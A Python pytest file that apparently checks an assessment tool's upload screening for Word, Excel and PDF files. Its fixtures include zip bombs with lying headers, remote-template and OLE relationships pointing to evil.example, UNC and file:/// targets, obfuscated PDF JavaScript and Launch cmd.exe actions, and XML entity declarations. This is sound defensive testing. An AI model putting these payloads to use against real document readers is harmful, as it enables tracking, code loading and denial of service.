"""Uploads that lie about their size, run too long, or reach outside themselves: each is refused with a
message naming what was wrong, memory stays small, and nothing is stored."""

import io
import time
import tracemalloc
import zlib
from pathlib import Path

import pytest

from dpia.errors import Refused
from dpia.importers import package, safety, word
from dpia.services.assessments import attachments, imports
from tests import import_fixtures as fx
from tests.conftest import EDITOR

MB = 1024 * 1024
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
# A behaviour bound, not a timing: inflating the attack would take hundreds of MB.
PEAK_BOUND = 100 * MB


@pytest.fixture
def storage(app):
    return attachments.Storage(instance=Path(app.instance_path), max_bytes=2 * MB)


def _lying_docx(inflates_to: int = 512 * MB, declared: int = 1000) -> bytes:
    """The ICO fixture plus a part whose headers declare `declared` bytes but which inflates much further."""
    raw, _ = fx.deflated_zeros(inflates_to)
    crc = zlib.crc32(b"0" * declared)  # what the declared bytes would check against
    return fx.lying_zip(fx.parts_of(fx.ico_dpia()), "customXml/item9.xml", raw, declared, crc)


def _long_docx(paragraphs: int) -> bytes:
    parts = fx.parts_of(fx.ico_dpia())
    document = parts["word/document.xml"].decode()
    start = document.index("<w:body>") + len("<w:body>")
    filler = "".join(
        f"<w:p><w:r><w:t>Paragraph {i} about patrols, forecasts and risk.</w:t></w:r></w:p>"
        for i in range(paragraphs)
    )
    parts["word/document.xml"] = (document[:start] + filler + document[start:]).encode()
    return fx.zipped(parts)


def _peak(action) -> tuple[BaseException | None, int]:
    """Run `action`, returning what it raised and the peak memory Python allocated meanwhile."""
    tracemalloc.start()
    try:
        action()
    except Exception as error:  # noqa: BLE001 - the caller asserts what was raised
        raised = error
    else:
        raised = None
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return raised, peak


def _nothing_stored(db, app, assessments: int = 0) -> None:
    assert db["staged_imports"].count == 0
    assert db["assessments"].count == assessments
    assert db["attachments"].count == 0
    for folder in ("imports", "attachments"):
        path = Path(app.instance_path) / folder
        assert not path.exists() or list(path.iterdir()) == []


def test_a_part_inflating_past_its_declared_size_is_refused_with_small_memory(db, app, storage, make_system):
    data = _lying_docx()
    system_id = make_system()
    started = time.perf_counter()
    raised, peak = _peak(lambda: imports.upload(db, EDITOR, storage, system_id, "a.docx", data))
    print(
        f"\nlying part (512 MB declared as 1,000 bytes): {time.perf_counter() - started:.2f} s, "
        f"peak {peak / MB:.1f} MiB"
    )
    assert isinstance(raised, Refused)
    assert "customXml/item9.xml expands to more than its header declares" in str(raised)
    assert peak < PEAK_BOUND
    _nothing_stored(db, app)


def test_the_word_reader_itself_refuses_a_lying_part():
    # Re-reading a stored upload goes through the same counting stream, not python-docx's own zip reading.
    raised, peak = _peak(lambda: word.read(_lying_docx(256 * MB)))
    assert isinstance(raised, Refused) and "expands to more than its header declares" in str(raised)
    assert peak < PEAK_BOUND


def test_parts_together_over_the_ceiling_are_refused_before_inflating():
    parts = fx.parts_of(fx.ico_dpia())
    parts["word/media/a.xml"] = b"<a>" + b"1" * (6 * MB) + b"</a>"
    parts["word/media/b.xml"] = b"<a>" + b"2" * (6 * MB) + b"</a>"
    data = fx.zipped(parts)
    raised, peak = _peak(lambda: package.read_parts(data, ceiling=10 * MB))
    assert isinstance(raised, Refused) and "expands to more than 10 MB" in str(raised)
    assert peak < 2 * MB  # refused by the declared sizes: nothing was inflated
    assert set(package.read_parts(data, ceiling=20 * MB)) == set(parts)


def test_a_part_whose_stream_is_shorter_than_declared_is_refused():
    content = b"<a>" + b"x" * 4000 + b"</a>"
    raw = zlib.compress(content)[2:-4]
    data = fx.lying_zip(fx.parts_of(fx.ico_dpia()), "customXml/item9.xml", raw, 8000, zlib.crc32(content))
    with pytest.raises(Refused, match="customXml/item9.xml is not the size or content its header declares"):
        safety.check_office(data)


def test_a_20000_paragraph_document_is_refused_quickly_naming_the_limit(db, app, storage, make_system):
    data = _long_docx(20_000)
    system_id = make_system()
    started = time.perf_counter()
    with pytest.raises(Refused, match=f"documents of up to {safety.MAX_PARAGRAPHS:,} paragraphs") as refused:
        imports.upload(db, EDITOR, storage, system_id, "long.docx", data)
    print(
        f"\n20,000 paragraphs ({len(data) / 1024:.0f} KB): refused in {time.perf_counter() - started:.2f} s"
    )
    assert "This document has 20,0" in str(refused.value)
    _nothing_stored(db, app)


def test_a_document_at_the_paragraph_limit_is_still_read():
    data = _long_docx(safety.MAX_PARAGRAPHS - 100)
    assert safety.check_office(data) == "docx"
    assert len(word.read(data).blocks) > safety.MAX_PARAGRAPHS - 100


def test_too_many_table_cells_are_refused_naming_the_limit():
    parts = fx.parts_of(fx.ico_dpia())
    document = parts["word/document.xml"].decode()
    start = document.index("<w:body>") + len("<w:body>")
    row = "<w:tr>" + "<w:tc/>" * 10 + "</w:tr>"
    table = "<w:tbl>" + row * (safety.MAX_TABLE_CELLS // 10 + 1) + "</w:tbl>"
    parts["word/document.xml"] = (document[:start] + table + document[start:]).encode()
    with pytest.raises(Refused, match=f"up to {safety.MAX_TABLE_CELLS:,} table cells"):
        safety.check_office(fx.zipped(parts))


def _rels(text: str, encoding: str = "utf-8") -> bytes:
    return _with_settings_rels(text.encode(encoding))


def _with_settings_rels(content: bytes) -> bytes:
    parts = fx.parts_of(fx.ico_dpia())
    parts["word/_rels/settings.xml.rels"] = content
    return fx.zipped(parts)


TEMPLATE = f"{REL}/attachedTemplate"
REMOTE = {
    "single quotes": (
        f"<Relationships xmlns='{PKG}'><Relationship Id='r1' Type='{TEMPLATE}'"
        " Target='http://evil.example/t.dotm' TargetMode='External'/></Relationships>"
    ),
    "namespace prefix": (
        f'<p:Relationships xmlns:p="{PKG}"><p:Relationship Id="r1" Type="{TEMPLATE}"'
        ' Target="http://evil.example/t.dotm" TargetMode="External"/></p:Relationships>'
    ),
    "spaces around =": (
        f'<Relationships xmlns="{PKG}"><Relationship Id = "r1" Type = "{TEMPLATE}"'
        ' Target =  "http://evil.example/t.dotm"  TargetMode = "External" /></Relationships>'
    ),
    "external image": (
        f'<Relationships xmlns="{PKG}"><Relationship Id="r1" Type="{REL}/image"'
        ' Target="http://evil.example/track.png" TargetMode="External"/></Relationships>'
    ),
    "OLE object": (
        f'<Relationships xmlns="{PKG}"><Relationship Id="r1" Type="{REL}/oleObject"'
        ' Target="http://evil.example/o.bin" TargetMode="External"/></Relationships>'
    ),
    "UNC hyperlink": (
        f'<Relationships xmlns="{PKG}"><Relationship Id="r1" Type="{REL}/hyperlink"'
        ' Target="\\\\server\\share\\x.docx" TargetMode="External"/></Relationships>'
    ),
    "file: image, no target mode": (
        f'<Relationships xmlns="{PKG}"><Relationship Id="r1" Type="{REL}/image"'
        ' Target="file:///C:/Windows/win.ini"/></Relationships>'
    ),
}


@pytest.mark.parametrize("name", sorted(REMOTE))
def test_remote_relationship_targets_are_found_however_written(name):
    with pytest.raises(Refused, match="from outside itself"):
        safety.check_office(_rels(REMOTE[name]))


def test_a_utf16_relationships_part_is_parsed_not_skipped():
    text = '<?xml version="1.0" encoding="UTF-16"?>' + REMOTE["namespace prefix"]
    with pytest.raises(Refused, match="loads a template from outside itself"):
        safety.check_office(_rels(text, "utf-16"))


def test_an_ordinary_web_hyperlink_is_accepted():
    text = (
        f'<Relationships xmlns="{PKG}"><Relationship Id="r1" Type="{REL}/hyperlink"'
        ' Target="https://ico.org.uk/dpia" TargetMode="External"/></Relationships>'
    )
    assert safety.check_office(_rels(text)) == "docx"


@pytest.mark.parametrize(
    "body, named",
    [
        (b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>", "/JavaScript"),
        (b"<< /Type /Action /S /#4c#61unch /F (cmd.exe) >>", "/Launch"),
        (b"<< /Names << /Embedded#46ile#73 1 0 R >> >>", "/EmbeddedFiles"),
        (b"<< /Type /Catalog /OpenAction 5 0 R >>", "/OpenAction"),
    ],
)
def test_pdf_names_are_decoded_before_the_action_check(body, named, db, app, storage, make_assessment):
    data = b"%PDF-1.7\n1 0 obj " + body + b" endobj\n%%EOF\n"
    with pytest.raises(Refused, match="scripts, actions or embedded files") as refused:
        attachments.add(db, EDITOR, storage, make_assessment(), 1, "report.pdf", data)
    assert named in str(refused.value)
    _nothing_stored(db, app, assessments=1)


@pytest.mark.parametrize("build", [fx.ico_dpia, fx.eqia, fx.freeform_pia, fx.xlsx])
def test_normal_files_still_pass(build):
    data = build()
    assert safety.check_office(data) in ("docx", "xlsx")
    if build is not fx.xlsx:
        assert word.read(data).blocks


# The same attacks through the web form and the command line.


def test_the_import_page_refuses_a_lying_docx_with_a_400(signed_in, make_system, db, app):
    editor = signed_in("editor")
    response = editor.post(
        f"/systems/{make_system()}/import", {"file": (io.BytesIO(_lying_docx(64 * MB)), "a.docx"), "kind": ""}
    )
    assert response.status_code == 400
    assert "expands to more than its header declares" in response.get_data(as_text=True)
    _nothing_stored(db, app)


def test_the_evidence_page_refuses_a_remote_template_with_a_400(signed_in, make_assessment, db, app):
    editor = signed_in("editor")
    url = f"/assessments/{make_assessment()}/versions/1/evidence/new"
    response = editor.post(url, {"file": (io.BytesIO(_rels(REMOTE["single quotes"])), "minutes.docx")})
    assert response.status_code == 400
    assert "from outside itself" in response.get_data(as_text=True)
    _nothing_stored(db, app, assessments=1)


def test_the_import_command_refuses_a_long_document_and_stores_nothing(
    runner, make_system, tmp_path, db, app
):
    make_system(name="ANPR")
    path = tmp_path / "long.docx"
    path.write_bytes(_long_docx(20_000))
    result = runner.invoke(args=["import", str(path), "--system", "ANPR"])
    # The command's documented exit status for "some file was refused".
    assert result.exit_code == 1
    assert f"documents of up to {safety.MAX_PARAGRAPHS:,} paragraphs can be imported" in result.output
    assert "0 imported, 1 refused" in result.output
    _nothing_stored(db, app)


def test_paragraphs_in_a_header_count_towards_the_limit():
    parts = fx.parts_of(fx.ico_dpia())
    header = next(name for name in parts if name.startswith("word/header"))
    content = parts[header].decode()
    end = content.rindex("</w:hdr>")
    filler = "<w:p><w:r><w:t>Header line</w:t></w:r></w:p>" * (safety.MAX_PARAGRAPHS + 1)
    parts[header] = (content[:end] + filler + content[end:]).encode()
    with pytest.raises(Refused, match=f"up to {safety.MAX_PARAGRAPHS:,} paragraphs"):
        safety.check_office(fx.zipped(parts))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_doctype_in_a_utf16_part_is_refused(encoding):
    parts = fx.parts_of(fx.ico_dpia())
    parts["customXml/item9.xml"] = '<!DOCTYPE d [<!ENTITY a "aaaa">]><d>&a;</d>'.encode(encoding)
    with pytest.raises(Refused, match="declares XML entities"):
        safety.check_office(fx.zipped(parts))


def _padded(size: int) -> bytes:
    """A raw deflate stream of `size` bytes padded after its end, so its compression ratio looks ordinary."""
    raw, _ = fx.deflated_zeros(size)
    return raw + b"\x00" * (size // 150)


def test_parts_padded_past_the_ratio_check_are_refused_at_the_ceiling_with_small_memory():
    # Each part declares its true size and looks 150:1, so only the ceiling on the whole file stops them.
    _, crc = fx.deflated_zeros(90 * MB)
    data = fx.lying_zip(fx.parts_of(fx.ico_dpia()), "customXml/item9.xml", _padded(90 * MB), 90 * MB, crc, 2)
    raised, peak = _peak(lambda: safety.check_office(data))
    assert isinstance(raised, Refused)
    assert f"expands to more than {package.MAX_UNCOMPRESSED // MB} MB" in str(raised)
    assert peak < PEAK_BOUND


def test_data_after_a_parts_stream_is_refused():
    raw = _padded(2 * MB)
    _, crc = fx.deflated_zeros(2 * MB)
    data = fx.lying_zip(fx.parts_of(fx.ico_dpia()), "customXml/item9.xml", raw, 2 * MB, crc)
    with pytest.raises(Refused, match="customXml/item9.xml has data after its end"):
        safety.check_office(data)
